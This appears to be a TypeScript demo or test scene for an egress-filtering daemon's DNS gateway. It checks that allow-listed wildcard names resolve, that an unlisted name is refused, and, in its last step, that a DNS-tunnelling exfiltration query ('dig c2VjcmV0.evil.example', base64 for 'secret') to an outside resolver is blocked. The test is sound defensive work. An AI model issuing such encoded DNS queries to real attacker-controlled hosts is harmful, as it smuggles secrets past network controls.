import { setTimeout as sleep } from 'node:timers/promises'
import { INET } from '../topology.ts'
import { arrived, count, reaches, request, say } from './requests.ts'
import type { Scene } from './scene.ts'

const CONFIG = `
dns: { gateway: true }
allow: ["**.photos.example"]
`
/** Every answer bears another one, for a second. */
const TURNS = Array.from({ length: 16 }, (_, index) => `203.0.113.${100 + index}`)
const [FIRST, STRAY] = ['203.0.113.99', '203.0.113.98']
const REQUESTS = 12
const PAUSE_MS = 400

/** Containers' questions go through embargod: names that no poller could know, and no way out in questions. */
export async function gateway({ host, lab, screen, shop, web }: Scene): Promise<void> {
  screen.heading('The DNS gateway: names that nobody could poll')
  screen.text(CONFIG.trim())
  await lab.inet.dns({
    'first.eu.photos.example': { a: [FIRST] },
    'rotating.photos.example': { turns: TURNS.map((address) => ({ a: [address], ttl: 1 })) },
    'photos.example': { a: [STRAY] },
  })
  await screen.step('reload, until embargod answers a question for a forbidden name', async () => {
    await host.addConfig('gateway', CONFIG)
    const beganMs = performance.now()
    const { exitCode, stderr } = await host.embargod('reload')
    if (exitCode !== 0) throw new Error(stderr)
    await lab.waitFor('the gateway answers', async () => {
      const { stdout } = await web.exec(['dig', '+tries=1', '+time=1', 'forbidden.example'])
      return stdout.includes('EDE: 15 (Blocked)')
    })
    return { ok: true, back: 'containers ask embargod', tookMs: performance.now() - beganMs }
  })
  await screen.step('web → first.eu.photos.example, which is new', () =>
    reaches(web, 'http://first.eu.photos.example/', FIRST, { family: 4 }),
  )
  await screen.step(`web → rotating.photos.example, ${REQUESTS} times, its answers changing`, async () => {
    const beganMs = performance.now()
    const from = new Set<string>()
    let failed = 0
    for (let index = 0; index < REQUESTS; index++) {
      const reply = await request(web, 'http://rotating.photos.example/', { family: 4 })
      if (reply.code === 0) from.add(reply.from)
      else failed += 1
      await sleep(PAUSE_MS)
    }
    const tookMs = performance.now() - beganMs
    return { ok: failed === 0 && from.size > 1, back: `${failed} failed; ${from.size} addresses met`, tookMs }
  })
  await screen.step('web → photos.example, which no entry names', async () => {
    const reply = await request(web, 'http://photos.example/')
    return {
      ok: reply.code === 6 && (await arrived(lab, [STRAY])) === 0,
      back: say(reply),
      tookMs: reply.tookMs,
    }
  })
  await screen.step(`shop_api: dig c2VjcmV0.evil.example @${INET.otherDns}`, async () => {
    await lab.inet.forget()
    const { stdout } = await shop.exec([
      'dig',
      '+tries=1',
      '+time=2',
      'c2VjcmV0.evil.example',
      `@${INET.otherDns}`,
    ])
    const status = /EDE: 15 \((Blocked)\)/.exec(stdout)?.[1] ?? 'not blocked'
    const out = (await lab.inet.queries()).filter(({ name }) => /evil/i.test(name)).length
    return { ok: status === 'Blocked' && out === 0, back: `${status}; ${count(out, 'question')} got out` }
  })
}
